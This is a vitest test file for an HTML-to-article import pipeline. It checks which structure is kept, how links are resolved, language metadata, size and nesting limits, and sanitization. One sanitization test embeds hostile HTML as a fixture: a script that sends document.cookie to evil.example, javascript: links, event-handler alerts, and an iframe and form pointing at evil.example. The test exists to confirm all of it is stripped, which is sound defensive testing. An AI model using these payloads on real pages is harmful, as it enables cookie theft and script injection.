/** The HTML pipeline on small pages: what structure survives, and where the metadata comes from. */
import { describe, expect, it } from 'vitest';
import { htmlToArticle, NOT_AN_ARTICLE_MESSAGE } from '../html-to-article';
import { PAGE_LIMITS } from '../import-budget';
import { activeContentIn } from '../test-support/import-fixture';

describe('htmlToArticle', () => {
  it('keeps headings, lists, quotes, tables, code and emphasis; links only for http(s) and mailto; images never', async () => {
    const { doc } = await htmlToArticle(
      `<meta charset="utf-8"><h2>Results</h2><p>See <a href="mailto:desk@example.org">the desk</a>, <a href="notes.html">notes</a> and <a href="data:text/html,x">data</a>.</p>
       <ol><li>First <em>step</em><ul><li>detail</li></ul></li><li><code>run()</code></li></ol>
       <blockquote><p>Quoted words.</p></blockquote><img src="https://example.org/chart.png" alt="chart">
       <table><thead><tr><th>Year</th><th>Tonnes</th></tr></thead><tbody><tr><td>2024</td><td><strong>12</strong></td></tr></tbody></table>
       <pre>line 1
  line 2</pre>`,
    );
    expect(doc.blocks).toEqual([
      { type: 'heading', level: 2, children: [{ type: 'text', text: 'Results' }] },
      {
        type: 'paragraph',
        children: [
          { type: 'text', text: 'See ' },
          { type: 'link', href: 'mailto:desk@example.org', children: [{ type: 'text', text: 'the desk' }] },
          { type: 'text', text: ', notes and data.' },
        ],
      },
      {
        type: 'list',
        ordered: true,
        items: [
          [
            { type: 'paragraph', children: [{ type: 'text', text: 'First ' }, { type: 'emphasis', children: [{ type: 'text', text: 'step' }] }] },
            { type: 'list', ordered: false, items: [[{ type: 'paragraph', children: [{ type: 'text', text: 'detail' }] }]] },
          ],
          [{ type: 'paragraph', children: [{ type: 'code', text: 'run()' }] }],
        ],
      },
      { type: 'quote', children: [{ type: 'paragraph', children: [{ type: 'text', text: 'Quoted words.' }] }] },
      {
        type: 'table',
        rows: [
          [{ header: true, children: [{ type: 'text', text: 'Year' }] }, { header: true, children: [{ type: 'text', text: 'Tonnes' }] }],
          [{ header: false, children: [{ type: 'text', text: '2024' }] }, { header: false, children: [{ type: 'strong', children: [{ type: 'text', text: '12' }] }] }],
        ],
      },
      { type: 'preformatted', text: 'line 1\n  line 2' },
    ]);
  });

  it('resolves a saved page\'s relative links against its canonical address', async () => {
    const { doc } = await htmlToArticle(
      '<html><head><link rel="canonical" href="https://news.example.org/2026/harbour"></head><body><article><p>See <a href="timetable">the timetable</a> and <a href="/about">about us</a> for more on the harbour works and the ferries.</p></article></body></html>',
    );
    expect(JSON.stringify(doc)).toContain('"href":"https://news.example.org/2026/timetable"');
    expect(JSON.stringify(doc)).toContain('"href":"https://news.example.org/about"');
  });

  it('reads direction and language from the page', async () => {
    const article = await htmlToArticle('<html dir="rtl" lang="he"><head><title>כותרת</title></head><body><p>שלום עולם, זהו מאמר קצר.</p></body></html>');
    expect(article).toMatchObject({ dir: 'rtl', lang: 'he', title: 'כותרת' });
  });

  it('refuses a page with no words', async () => {
    await expect(htmlToArticle('<html><body><img src="x.png"><script>1</script></body></html>')).rejects.toThrow(NOT_AN_ARTICLE_MESSAGE);
  });

  it('keeps a page past reader mode\'s size whole, its <main> when it has one, and says so', async () => {
    const rows = Array.from({ length: PAGE_LIMITS.readerElements / 2 }, (_, row) => `<tr><td>${row}</td></tr>`).join('');
    const page = `<html><head><title>Tide tables</title></head><body><nav><a href="/">Home</a> · Menu</nav><main><h1>Tides</h1><p>From <a href="/almanac">the almanac</a>.</p><table>${rows}</table></main></body></html>`;
    const article = await htmlToArticle(page, 'https://example.org/tides/');
    expect(article.notice).toBe(
      `The page was kept as it is, without reader mode: it has ${(PAGE_LIMITS.readerElements + 11).toLocaleString('en')} elements, and reader mode reads pages of up to ${PAGE_LIMITS.readerElements.toLocaleString('en')}.`,
    );
    expect(article.title).toBe('Tide tables');
    expect(article.doc.blocks.slice(0, 2)).toEqual([
      { type: 'heading', level: 1, children: [{ type: 'text', text: 'Tides' }] },
      // Links made absolute, as reader mode makes them.
      { type: 'paragraph', children: [{ type: 'text', text: 'From ' }, { type: 'link', href: 'https://example.org/almanac', children: [{ type: 'text', text: 'the almanac' }] }, { type: 'text', text: '.' }] },
    ]);
    expect(JSON.stringify(article.doc)).not.toContain('Menu');
  });

  it.each([
    ['its body', (inside: string) => `<body>${inside}</body>`],
    ['its <main>', (inside: string) => `<body><main>${inside}</main></body>`],
  ])('sanitizes a page kept whole (%s) as strictly as reader mode\'s article', async (_where, wrap) => {
    const hostile = `<p onclick="alert(1)">Dock workers said the cranes <a href="javascript:alert(2)">lift</a> twice the load, see <a href="https://example.org/cranes">the cranes</a>.</p>
      <script>fetch('https://evil.example/?c=' + document.cookie)</script><style>p { background: url(https://evil.example/p.png) }</style>
      <img src="https://evil.example/pixel.gif" onerror="alert(3)"><iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/post"><input name="q"></form>
      <svg><script>alert(4)</script></svg><p style="background:url(https://evil.example/bg.png)">More words.</p>`;
    const filler = '<span>w</span>'.repeat(PAGE_LIMITS.readerElements);
    const article = await htmlToArticle(`<html><head><title>Cranes</title></head>${wrap(`${hostile}<p>${filler}</p>`)}</html>`);
    expect(article.notice).toMatch(/without reader mode/);
    expect(activeContentIn(article.html)).toEqual([]);
    expect(article.html).toContain('<a href="https://example.org/cranes">the cranes</a>');
    expect(JSON.stringify(article.doc)).not.toMatch(/evil|alert|cookie/);
  });

  it('keeps a deeply nested page whole, and flattens what nests past the limit', async () => {
    const nested = (levels: number) => `<html><body>${'<div>'.repeat(levels)}<p>Deep words.</p>${'</div>'.repeat(levels)}</body></html>`;
    expect((await htmlToArticle(nested(PAGE_LIMITS.readerDepth + 10))).notice).toBe(
      `The page was kept as it is, without reader mode: its elements nest ${PAGE_LIMITS.readerDepth + 11} deep, and reader mode reads pages nested up to ${PAGE_LIMITS.readerDepth} deep.`,
    );
    const flattened = await htmlToArticle(nested(PAGE_LIMITS.depth * 4));
    expect(flattened.notice).toMatch(/ Elements nested more than 256 deep were flattened; their words are kept\.$/);
    expect(flattened.doc.blocks).toEqual([{ type: 'paragraph', children: [{ type: 'text', text: 'Deep words.' }] }]);
  });

  it('reads an article-sized page through reader mode with no notice', async () => {
    expect((await htmlToArticle('<html><body><article><p>The harbour reopened on Monday after three weeks of repairs.</p></article></body></html>')).notice).toBeUndefined();
  });
});
